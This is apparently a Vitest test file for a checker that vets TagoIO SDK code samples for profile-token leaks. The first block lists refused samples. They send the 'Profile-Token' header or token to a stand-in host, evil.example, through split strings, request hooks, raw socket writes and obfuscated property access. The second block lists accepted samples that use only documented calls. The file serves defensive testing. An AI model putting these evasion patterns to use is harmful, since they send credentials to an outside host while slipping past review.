import { describe, expect, it } from 'vitest';
import { destinationProblem } from '../../../../../lib/domain/samples/destinations/check-destinations.ts';
import { profileTokenPlaces } from '../../../../../lib/domain/samples/token-placeholders.ts';
import { US } from '../../make.ts';

const JAVASCRIPT =
  'import { Account } from "@tago-io/sdk";\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n';
const PYTHON = 'from tagoio_sdk import Account\n\naccount = Account({"token": "your-token"})\n';
/** Pieces of a foreign address, and an answer to a request with the token. */
const PIECES =
  's = "https"\nc = ":"\nd = "/"\ne = "evil."\nf = "example"\nu = s + c + d + d + e + f\nh = {"Profile-Token": "YOUR-PROFILE-TOKEN"}\n';
const ANSWER = `import requests\n${PIECES}r = requests.get("https://api.us-e1.tago.io/x", headers=h)\n`;
const AXIOS = `const axios = require("axios");\nconst e = "evil.";\nconst f = "example";\nconst t = "YOUR-PROFILE-TOKEN";\nconst r = await axios.get("https://api.us-e1.tago.io/x", { headers: { "Profile-Token": t } });\n`;

describe('what an answer or an object of the SDK offers beside what is documented', () => {
  it.each([
    `${JAVASCRIPT}await account.doRequest({ path: ".evil.example/", method: "GET" });`,
    `${JAVASCRIPT}await account.devices.doRequest({ path: "@evil.example/", method: "GET" });`,
    `${JAVASCRIPT}await account.devices?.doRequest?.({ path: "@evil.example/", method: "GET" });`,
    `${JAVASCRIPT}const f = account["doRequest"];`,
    `${JAVASCRIPT}await (account.devices.other)({ path: "@evil.example/", method: "GET" });`,
    `${JAVASCRIPT}await (() => 1, account.devices.other)({ path: "@evil.example/", method: "GET" });`,
    `${JAVASCRIPT}const f = (async, account.devices.other)({ path: "@evil.example/" });`,
    `${JAVASCRIPT}account.devices.list.call(account, 1);`,
    `${JAVASCRIPT}const p = account.params;`,
    `${PYTHON}print(account.doRequest({"path": ".evil.example/", "method": "GET"}))`,
    `${PYTHON}f = account.doRequest\nprint(f({"path": ".evil.example/", "method": "GET"}))`,
    `${PYTHON}account.params.update({"token": 1})`,
    `import requests\n${PIECES}def g(x):\n    x.prepare_url(u, None)\n    return x\nr = requests.get("https://api.us-e1.tago.io/x", headers=h, auth=g)`,
    `import requests\n${PIECES}def g(x):\n    return x\nr = requests.get("https://api.us-e1.tago.io/x", headers=h, auth=g)`,
    `import requests\n${PIECES}def g(x):\n    return x\nr = requests.get("https://api.us-e1.tago.io/x", headers=h, hooks=g)`,
    `import requests\n${PIECES}def g(x):\n    return x\nr = requests.request("GET", "https://api.us-e1.tago.io/x", None, None, h, None, None, g)`,
    `${ANSWER}r.request.prepare_url(u, None)\nr.connection.send(r.request)`,
    `${ANSWER}p = r.request`,
    `${ANSWER}p = r.connection\nq = p.send`,
    `${AXIOS}r.request.agent.createConnection(80, e + f).end(t);`,
    `${AXIOS}r["request"]["agent"].createConnection(80, e + f).end(t);`,
    `${AXIOS}const { socket } = r;\nsocket.connect(80, e + f);`,
    `${AXIOS}const { connection: n } = r;\nn.connect(80, e + f);`,
    `${AXIOS}const { "connection": n } = r;\nn.connect(80, e + f);`,
    `${AXIOS}const [x, y, z] = Object.values(r);\nx.get(e + f);`,
    `${JAVASCRIPT}const c = "fet";\nsetTimeout(function f() {} + c, 1);`,
    `${JAVASCRIPT}const c = "fet";\nsetTimeout(async ? c : 1, 1);`,
  ])('is refused: %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });
});

describe('a program that uses what is documented keeps its token', () => {
  it.each([
    `${JAVASCRIPT}const { result } = await account.devices.getDeviceData("id", { variables: ["x"] });\nconst names = result.map((item) => item.name.toUpperCase()).filter((name) => name.startsWith("A"));\nconsole.log(names.join(", "), Object.keys(result));`,
    `${JAVASCRIPT}await account.devices.tokenCreate("id", { name: "x" });\nawait account.run.sendMessage({ user_id: "x" });\nfor await (const list of account.devices.listStreaming()) {\n  console.log(list);\n}`,
    `${JAVASCRIPT}(async () => {\n  console.log(await account.info());\n})();\n(function () {\n  console.log("x");\n})();`,
    `${JAVASCRIPT}setTimeout(function () {\n  console.log("x");\n}, 10);`,
    `const TagoIO = require("@tago-io/sdk");\nconst account = new TagoIO.Account({ token: "YOUR-PROFILE-TOKEN" });`,
    `${PYTHON}print("Name: {}".format(account.info()["name"]))`,
    `${ANSWER}r.raise_for_status()\nif r.ok:\n    print(r.status_code, r.headers.get("Date"), r.text)\nfor item in r.json()["result"]:\n    print(item.get("name", "x"))`,
    `import requests\nr = requests.post(url="https://api.us-e1.tago.io/x", headers={"Profile-Token": "YOUR-PROFILE-TOKEN"}, json={"name": "x"}, timeout=10)`,
    `import requests\nr = requests.get(headers={"Profile-Token": "YOUR-PROFILE-TOKEN"}, url="https://api.us-e1.tago.io/x")`,
    `import requests\nr = requests.request(method="GET", url="https://api.us-e1.tago.io/x", headers={"Profile-Token": "YOUR-PROFILE-TOKEN"})`,
    `const axios = require("axios");\nconst config = {\n  method: "get",\n  url: "https://api.us-e1.tago.io/x",\n  params: { page: 1 },\n  headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" },\n};\naxios.request(config).then((response) => console.log(response.data.result.length));`,
  ])('%j', (text) => {
    expect(profileTokenPlaces(text)).toHaveLength(1);
    expect(destinationProblem(text, US)).toBeNull();
  });
});
